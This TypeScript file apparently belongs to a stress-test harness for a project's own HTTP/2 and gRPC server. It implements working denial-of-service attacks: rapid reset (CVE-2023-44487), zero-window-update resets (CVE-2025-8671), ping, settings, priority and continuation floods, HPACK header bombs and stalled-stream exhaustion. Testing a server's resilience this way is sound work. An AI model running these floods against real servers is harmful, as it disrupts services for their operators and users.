import { PRODUCE_STREAM_PATH, UNARY } from '@millrace/wire'
import { type Attack, type AttackContext, pause, withConnections } from '../attack.ts'
import {
  callFields,
  data,
  FLAG,
  FRAME,
  frame,
  getFields,
  headerBlock,
  headers,
  ping,
  preface,
  reset,
  SETTING,
  settingsFrame,
  windowUpdate,
} from '../frames.ts'
import type { HostileSocket } from '../hostile-socket.ts'

/** Sends what `make` gives, without end, and counts it. */
async function flood(
  context: AttackContext,
  connection: HostileSocket,
  what: string,
  make: () => { bytes: Buffer; count: number },
): Promise<void> {
  while (!connection.isClosed && !context.signal.aborted) {
    const { bytes, count } = make()
    await connection.write(bytes)
    context.counts.add(what, count)
  }
}

/** The same frame again and again on 20 connections; the pieces are large, so that sending costs little. */
function frameFlood(options: {
  name: string
  does: string
  what: string
  bytes: Buffer
  first?: readonly Buffer[]
  reads?: boolean
}): Attack {
  const { name, does, what, bytes, first = [], reads = true } = options
  const count = Math.max(1, Math.floor(65_536 / bytes.length))
  const piece = Buffer.concat(Array.from({ length: count }, () => bytes))
  return {
    name,
    does,
    run: (context) =>
      withConnections(context, 20, async (connection) => {
        if (!reads) connection.stopReading()
        await connection.write(Buffer.concat([preface(), ...first]))
        await flood(context, connection, what, () => ({ bytes: piece, count }))
      }),
  }
}

const PRODUCE = headers(1, callFields(PRODUCE_STREAM_PATH))

/** What can be done to a server of HTTP/2. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  {
    name: 'rapid reset',
    does: '20 connections open calls and reset them at once (CVE-2023-44487)',
    run: (context) =>
      withConnections(context, 20, async (connection) => {
        await connection.write(preface())
        let stream = 1
        const request = headerBlock(getFields('/v1/topics'))
        await flood(context, connection, 'resets', () => {
          const frames: Buffer[] = []
          for (let count = 0; count < 500; count++, stream += 2) {
            frames.push(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, stream, request), reset(stream))
          }
          return { bytes: Buffer.concat(frames), count: 500 }
        })
      }),
  },
  {
    name: 'made resets',
    does: '20 connections have the server reset their calls, by window updates of 0 (CVE-2025-8671)',
    run: (context) =>
      withConnections(context, 20, async (connection) => {
        await connection.write(preface())
        let stream = 1
        const request = headerBlock(callFields(PRODUCE_STREAM_PATH))
        await flood(context, connection, 'resets', () => {
          const frames: Buffer[] = []
          for (let count = 0; count < 200; count++, stream += 2) {
            frames.push(frame(FRAME.headers, FLAG.endHeaders, stream, request), windowUpdate(stream, 0))
          }
          return { bytes: Buffer.concat(frames), count: 200 }
        })
      }),
  },
  frameFlood({ name: 'ping flood', does: '20 connections ping', what: 'pings', bytes: ping() }),
  frameFlood({
    name: 'pings unread',
    does: 'the same, and read no answer',
    what: 'pings',
    bytes: ping(),
    reads: false,
  }),
  frameFlood({
    name: 'settings flood',
    does: '20 connections change their settings',
    what: 'settings',
    bytes: settingsFrame({ [SETTING.initialWindowSize]: 70_000 }),
  }),
  frameFlood({
    name: 'settings of many',
    does: '20 connections send settings frames of 2,700 entries',
    what: 'settings',
    bytes: settingsFrame(Object.fromEntries(Array.from({ length: 2_700 }, (_, index) => [index + 100, 1]))),
  }),
  frameFlood({
    name: 'priority flood',
    does: '20 connections send priorities',
    what: 'priorities',
    bytes: frame(FRAME.priority, 0, 3, Buffer.from([0, 0, 0, 0, 16])),
  }),
  frameFlood({
    name: 'unknown frames',
    does: '20 connections send frames of no known type',
    what: 'frames',
    bytes: frame(0xbb, 0, 0),
  }),
  frameFlood({
    name: 'empty data',
    does: '20 connections send data frames without data',
    what: 'frames',
    bytes: data(1, Buffer.alloc(0)),
    first: [PRODUCE],
  }),
  frameFlood({
    name: 'byte by byte',
    does: '20 connections send gRPC messages in data frames of one byte',
    what: 'frames',
    bytes: data(1, Buffer.from([0])),
    first: [PRODUCE, data(1, Buffer.from([0, 0, 0x7f, 0xff, 0xff]))],
  }),
  frameFlood({
    name: 'continuations',
    does: '20 connections send headers that never end',
    what: 'frames',
    bytes: frame(FRAME.continuation, 0, 1, headerBlock([['x', 'y']])),
    first: [frame(FRAME.headers, 0, 1, headerBlock(getFields('/')))],
  }),
  frameFlood({
    name: 'empty headers',
    does: '20 connections send continuations without content',
    what: 'frames',
    bytes: frame(FRAME.continuation, 0, 1),
    first: [frame(FRAME.headers, 0, 1)],
  }),
  frameFlood({
    name: 'tiny windows',
    does: '20 connections open their windows by one byte at a time',
    what: 'updates',
    bytes: windowUpdate(0, 1),
  }),
  {
    name: 'window overflow',
    does: '20 connections open their windows past 2^31',
    run: (context) =>
      withConnections(context, 20, async (connection, index) => {
        const at = index % 2
        await connection.write(
          Buffer.concat([preface(), PRODUCE, windowUpdate(at, 2 ** 31 - 1), windowUpdate(at, 2 ** 31 - 1)]),
        )
        context.counts.add('updates', 2)
        await Promise.race([connection.closed(context.signal), pause(context.signal, 200)])
      }),
  },
  {
    name: 'shut windows',
    does: '40 connections ask for answers on 250 streams each and open no window for them',
    run: (context) =>
      withConnections(context, 40, async (connection, index) => {
        await connection.write(preface({ [SETTING.initialWindowSize]: 0 }))
        const path = index % 2 === 0 ? '/v1/topics/good/partitions/0/records' : '/openapi.json'
        const request = headerBlock(getFields(path))
        const streams = Array.from({ length: 250 }, (_, number) =>
          frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 2 * number + 1, request),
        )
        await connection.write(Buffer.concat(streams))
        context.counts.add('requests', streams.length)
        await connection.closed(context.signal)
      }),
  },
  {
    name: 'header bombs',
    does: '20 connections send a header of 400 bytes once and name it 8,000 times (HPACK)',
    run: (context) =>
      withConnections(context, 20, async (connection) => {
        const long = Buffer.concat([
          Buffer.from([0x40, 1]),
          Buffer.from('x'),
          Buffer.from([0x7f, 0x91, 0x02]),
          Buffer.alloc(400, 97),
        ])
        const named = Buffer.alloc(8_000, 0xbe)
        await connection.write(preface())
        let stream = 1
        await flood(context, connection, 'requests', () => {
          const block = Buffer.concat([headerBlock(getFields('/')), stream === 1 ? long : Buffer.alloc(0), named])
          const bytes = frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, stream, block)
          stream += 2
          return { bytes, count: 1 }
        })
      }),
  },
  {
    name: 'idle calls',
    does: '40 connections open 250 calls each with headers of 10 KB and send nothing',
    run: (context) =>
      withConnections(context, 40, async (connection) => {
        await connection.write(preface())
        const fields = headerBlock([...callFields(PRODUCE_STREAM_PATH), ['x', 'y'.repeat(10_000)]])
        for (let index = 0; index < 250; index++) {
          await connection.write(frame(FRAME.headers, FLAG.endHeaders, 2 * index + 1, fields))
          context.counts.add('calls')
        }
        await connection.closed(context.signal)
      }),
  },
  {
    name: 'unread bodies',
    does: '40 connections open 250 GET requests each that wait for data, and send bodies with them',
    run: (context) =>
      withConnections(context, 40, async (connection) => {
        await connection.write(preface())
        const fields = headerBlock(getFields('/v1/topics/empty/partitions/0/records?from=latest&waitMs=60000'))
        const body = Buffer.concat(Array.from({ length: 6 }, () => Buffer.alloc(10_000, 32)))
        for (let index = 0; index < 250; index++) {
          const stream = 2 * index + 1
          const parts = [frame(FRAME.headers, FLAG.endHeaders, stream, fields), data(stream, body.subarray(0, 16_000))]
          for (let at = 16_000; at < 64_000; at += 16_000) parts.push(data(stream, body.subarray(0, 16_000)))
          await connection.write(Buffer.concat(parts))
          context.counts.add('bytes', 64_000)
        }
        await connection.closed(context.signal)
      }),
  },
  {
    name: 'small calls',
    does: '20 connections call what does not exist, 100 at a time',
    run: (context) =>
      withConnections(context, 20, async (connection) => {
        await connection.write(preface())
        let stream = 1
        const request = headerBlock(callFields(`${UNARY.listTopics.path}No`))
        await flood(context, connection, 'calls', () => {
          const frames: Buffer[] = []
          for (let count = 0; count < 100; count++, stream += 2) {
            frames.push(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, stream, request))
          }
          return { bytes: Buffer.concat(frames), count: 100 }
        })
      }),
  },
]
